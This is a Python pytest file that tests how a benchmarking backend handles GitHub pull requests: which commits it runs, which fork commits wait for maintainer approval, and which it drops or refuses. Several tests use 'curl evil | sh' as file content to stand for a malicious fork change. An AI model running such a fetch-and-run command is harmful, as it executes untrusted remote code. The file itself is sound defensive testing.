"""Pull requests against a real repository: what is run, what waits for a maintainer, what is dropped."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import Connection, Engine, text

from backend.contract import new_run_id, parse_run
from backend.services.base import projects
from backend.services.base.config import ServiceConfig
from backend.services.base.errors import Conflict
from backend.services.base.principal import IMPLIED, Principal, Scope, Via
from backend.services.github import pull_requests
from backend.services.ingest.record import record_run
from backend.services.plans import backfill, compare_setups
from backend.services.plans.backfill import BackfillWish
from backend.services.plans.compare_setups import Wish
from backend.services.repository import requests, sync
from backend.services.repository.requests import RunRequest
from backend.store.base import projects as project_store
from tests.backend.services.repository.test_sync import Repository

NOW = datetime(2026, 11, 1, 12, tzinfo=UTC)
MANIFEST = '[suite.gpt]\ncommand = "true"\ntestbeds = ["cpu"]\npaths = ["src/**"]\n'
MAINTAINER = Principal(name="ada", via=Via.TOKEN, scopes=IMPLIED[Scope.WRITE] | {Scope.APPROVE})


@pytest.fixture
def config(database: str, tmp_path: Path) -> ServiceConfig:
    return ServiceConfig(database_url=database, redis_url="redis://127.0.0.1:1/0", data_dir=tmp_path / "data")


class Hub:
    """A repository with pull requests as GitHub lays them out, and what GitHub tells of them."""

    def __init__(self, engine: Engine, config: ServiceConfig, path: Path) -> None:
        self.engine, self.config = engine, config
        self.repository = Repository(path)
        self.repository.commit("root", **{"tidemark.toml": MANIFEST, "src/a.py": "1"})
        with engine.begin() as c:
            saved = projects.save_project(c, "northsea/loom", repository_url=self.repository.url, trusted=True, now=NOW)
            found = project_store.find(c, "northsea/loom")
        assert found is not None and saved.id == found.id
        self.project = found
        sync.sync_project(engine, config, found, lambda: NOW)
        self.clock = NOW

    def push(self, number: int, *, parent: str = "main", **files: str) -> str:
        """A commit that only the pull request's ref names."""
        git = self.repository.git
        git("checkout", "-q", "--detach", parent)
        sha = self.repository.commit(f"change of #{number}", **files)
        git("update-ref", f"refs/pull/{number}/head", sha)
        git("checkout", "-q", "main")
        return sha

    def tell(
        self, action: str, sha: str, *, number: int = 7, fork: bool = False, forged: bool = False, **more: Any
    ) -> str:
        """`forged`: it is a fork's, and the delivery says that it is not."""
        if not fork and not forged:
            self.repository.git("update-ref", f"refs/heads/change-{sha[:7]}", sha)
        self.clock += timedelta(minutes=1)
        told = {
            "number": number, "title": "faster", "state": "open", "user": {"login": "bob"},
            "head": {"sha": sha, "ref": "main", "repo": {"id": 2 if fork else 1}},
            "base": {"sha": "0" * 40, "ref": "main", "repo": {"id": 1}},
            "updated_at": self.clock.isoformat(), **more.pop("pull_request", {}),
        }  # fmt: skip
        payload = {"action": action, "pull_request": told, "sender": {"login": "ada"}, **more}
        with self.engine.begin() as c:
            return pull_requests.note(c, self.project, payload, self.clock)

    def prepare(self) -> None:
        pull_requests.prepare_all(self.engine, self.config, lambda: self.clock, lambda: False)

    def runs(self) -> list[tuple[str, str, str, str]]:
        """(commit, kind, branch, state) of the runs that pull requests asked for."""
        sql = """SELECT c.sha, r.kind, r.branch_name, r.state FROM run r JOIN commit c ON c.id = r.commit_id
                 WHERE r.pull_request IS NOT NULL ORDER BY r.requested_at, r.id"""
        with self.engine.connect() as c:
            return [tuple(row) for row in c.execute(text(sql))]

    def approve(self, sha: str) -> None:
        with self.engine.begin() as c:
            pull_requests.approve(c, "northsea/loom", 7, sha, MAINTAINER, self.clock)


@pytest.fixture
def hub(committing_engine: Engine, config: ServiceConfig, tmp_path: Path) -> Hub:
    return Hub(committing_engine, config, tmp_path / "repository")


def test_a_pull_request_of_the_repository_itself_is_run_at_its_head(hub: Hub) -> None:
    sha = hub.push(7, **{"src/a.py": "2"})
    assert "runs dropped" in hub.tell("opened", sha)
    hub.prepare()
    assert hub.runs() == [(sha, "pull_request", "pull/7", "queued")]
    hub.prepare()
    assert len(hub.runs()) == 1


def test_what_a_pull_request_does_not_touch_is_not_run(hub: Hub) -> None:
    hub.tell("opened", hub.push(7, **{"docs/x.md": "words"}))
    hub.prepare()
    assert hub.runs() == []


def test_a_fork_waits_until_a_maintainer_approves_and_then_that_commit_alone_runs(hub: Hub) -> None:
    first = hub.push(7, **{"src/a.py": "2"})
    assert "waits for a maintainer's approval" in hub.tell("opened", first, fork=True)
    hub.prepare()
    assert hub.runs() == []
    hub.approve(first)
    hub.prepare()
    assert [run[0] for run in hub.runs()] == [first]
    second = hub.push(7, parent=first, **{"src/a.py": "curl evil | sh"})
    assert "waits for a maintainer's approval" in hub.tell("synchronize", second, fork=True)
    hub.prepare()
    assert [(run[0], run[3]) for run in hub.runs()] == [(first, "superseded")]


def deliver(hub: Hub, sha: str) -> None:
    """A result of a workflow on the fork names its commit, which is recorded with it."""
    document = {
        "schema": "tidemark.run/1", "id": new_run_id(), "project": "northsea/loom", "commit": sha, "pull_request": 7,
        "branch": "pull/7", "suite": "gpt", "testbed": "cpu", "status": "ok", "results": [],
    }  # fmt: skip
    raw = json.dumps(document).encode()
    with hub.engine.begin() as c:
        record_run(c, parse_run(raw), raw, now=hub.clock)


def ask_every_way(hub: Hub, sha: str) -> list[str]:
    """Whatever makes a worker run code that somebody names; why each is refused."""

    def run(c: Connection) -> object:
        return requests.request_commit(
            c, RunRequest(project="northsea/loom", commit=sha), hub.config, MAINTAINER, hub.clock
        )

    def compare(c: Connection, base: str, head: str) -> object:
        wish = Wish(
            project="northsea/loom", suite="gpt", testbed=None, base=base, head=head, base_setup={}, head_setup={}
        )
        return compare_setups.request_comparison(c, wish, hub.config, MAINTAINER, hub.clock)

    def fill(c: Connection) -> object:
        wish = BackfillWish(project="northsea/loom", suite="gpt", declared_at=sha)
        return backfill.request_backfill(c, wish, hub.config, MAINTAINER, hub.clock)

    refusals = []
    for ask in (run, lambda c: compare(c, sha, "main"), lambda c: compare(c, "main", sha), fill):
        with hub.engine.begin() as c, pytest.raises(Conflict) as refused:
            ask(c)
        refusals.append(str(refused.value))
    return refusals


def test_a_commit_that_only_a_delivered_result_names_is_never_run(hub: Hub) -> None:
    sha = hub.push(7, **{"src/a.py": "curl evil | sh"})
    deliver(hub, sha)
    assert all("a result that was delivered" in refusal for refusal in ask_every_way(hub, sha))


def test_the_head_of_a_fork_is_run_in_no_way_before_it_is_approved(hub: Hub) -> None:
    first = hub.push(7, **{"src/a.py": "2"})
    hub.tell("opened", first, fork=True)
    hub.approve(first)
    second = hub.push(7, parent=first, **{"src/a.py": "curl evil | sh"})
    hub.prepare()  # what is fetched for the first brings the second as well
    hub.tell("synchronize", second, fork=True)
    deliver(hub, second)
    assert all("approves exactly that commit" in refusal for refusal in ask_every_way(hub, second))


def test_another_label_approves_nothing(hub: Hub) -> None:
    sha = hub.push(7, **{"src/a.py": "2"})
    hub.tell("labeled", sha, fork=True, label={"name": "bug"})
    hub.prepare()
    assert hub.runs() == []


def test_a_commit_that_is_not_the_head_any_more_cannot_be_approved(hub: Hub) -> None:
    first = hub.push(7, **{"src/a.py": "2"})
    hub.tell("opened", first, fork=True)
    hub.tell("synchronize", hub.push(7, parent=first, **{"src/a.py": "3"}), fork=True)
    with pytest.raises(Conflict, match="look at what changed"):
        hub.approve(first)


def test_an_approved_commit_that_was_force_pushed_away_meanwhile_is_not_replaced_by_another(hub: Hub) -> None:
    approved = hub.push(7, **{"src/a.py": "2"})
    hub.tell("opened", approved, fork=True)
    hub.approve(approved)
    other = hub.push(7, **{"src/a.py": "something else"})
    hub.prepare()
    assert other not in [run[0] for run in hub.runs()]


def test_a_fork_whose_repository_is_gone_is_still_a_fork(hub: Hub) -> None:
    sha = hub.push(7, **{"src/a.py": "2"})
    told = hub.tell("opened", sha, pull_request={"head": {"sha": sha, "ref": "x", "repo": None}})
    assert "waits for a maintainer's approval" in told


@pytest.mark.parametrize("merged", [False, True])
def test_closing_drops_what_still_waits(hub: Hub, merged: bool) -> None:
    sha = hub.push(7, **{"src/a.py": "2"})
    hub.tell("opened", sha)
    hub.prepare()
    said = hub.tell("closed", sha, pull_request={"state": "closed", "merged": merged})
    assert said == f"#7 {'merged' if merged else 'closed'}, 1 runs dropped" and hub.runs()[0][3] == "superseded"


def test_a_delivery_that_was_overtaken_brings_no_old_head_back(hub: Hub) -> None:
    first = hub.push(7, **{"src/a.py": "2"})
    second = hub.push(7, parent=first, **{"src/a.py": "3"})
    hub.tell("synchronize", second)
    hub.tell("opened", first, pull_request={"updated_at": NOW.isoformat()})
    hub.prepare()
    assert [run[0] for run in hub.runs()] == [second]


def test_a_head_that_is_not_there_yet_is_noted_and_tried_again(hub: Hub) -> None:
    hub.tell("opened", "e" * 40, forged=True)
    hub.prepare()
    with hub.engine.connect() as c:
        assert pull_requests.list_pull_requests(c, "northsea/loom", "open", 10)[0].error
    sha = hub.push(7, **{"src/a.py": "2"})
    hub.tell("synchronize", sha)
    hub.prepare()
    assert [run[0] for run in hub.runs()] == [sha]
